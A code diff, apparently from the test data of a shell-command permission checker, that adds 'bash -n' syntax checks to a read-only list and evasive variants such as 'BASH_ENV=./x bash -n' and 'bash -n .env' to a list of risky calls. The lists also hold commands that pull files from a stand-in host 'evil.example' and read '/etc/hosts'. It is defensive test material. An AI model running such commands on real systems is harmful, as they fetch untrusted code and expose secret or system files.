@@ -20,7 +20,7 @@ docker compose up --help; podman --version; kubectl --help; kubectl get --help; 
 tofu version; aws --version; gcloud --version; gcloud version; gcloud info; psql --version; mysql --version; sqlite3 --version
 redis-cli --version; mongosh --version; systemctl --version; systemctl is-active x; systemctl list-units; journalctl --version
 apt list --installed; apt show x; apt-cache policy x; dpkg -l; dpkg -s x; dpkg-query -W x; rpm --version; rpm -qa; dnf --version; pacman -Q
-brew --version; brew list; brew list --versions python@3.12; brew leaves
+brew --version; brew list; brew list --versions python@3.12; brew leaves; bash -n x.sh; sh -n scripts/a.sh; timeout 5 bash -n x.sh
 `;
 
 /** What runs code of the project or of a package, changes something, talks to others or shows secrets. */
@@ -56,7 +56,8 @@ dpkg -i x.deb; dpkg -P x; dpkg --pre-invoke=x -l; rpm -i x; rpm -e x; rpm --eval
 pacman -R x; brew install x; brew services list; brew info x; brew x
 brew list ./evil.rb; brew ls evil/tap/x; brew list https://evil.example/x.rb; brew list --versions a.rb/b; helm lint .; helm lint -f https://evil.example/x chart
 helm lint chart; az --version; az version; az version --query @/etc/hosts; az group list --help; gcloud info --run-diagnostics; gcloud info --show-log
-npm run x --help y; npm run --frob; npm run build --; cat https://evil.example/x; git shortlog --group=format:%GS HEAD
+npm run x --help y; npm run --frob; npm run build --; bash x.sh; bash -n -c id; bash -n; bash -n x.sh y; bash +n x.sh; bash -n +n x.sh; bash -nx x.sh; bash -n *.sh; bash -n ~/x
+zsh -n x.sh; BASH_ENV=./x bash -n x.sh; ./bash -n x.sh; bash -n /etc/profile; bash -n .env; bash -n "$X"; find . | xargs bash -n; bash -n - < x; cat https://evil.example/x; git shortlog --group=format:%GS HEAD
 `;
 
 /** A rule, and a call that its `*` stands for. */
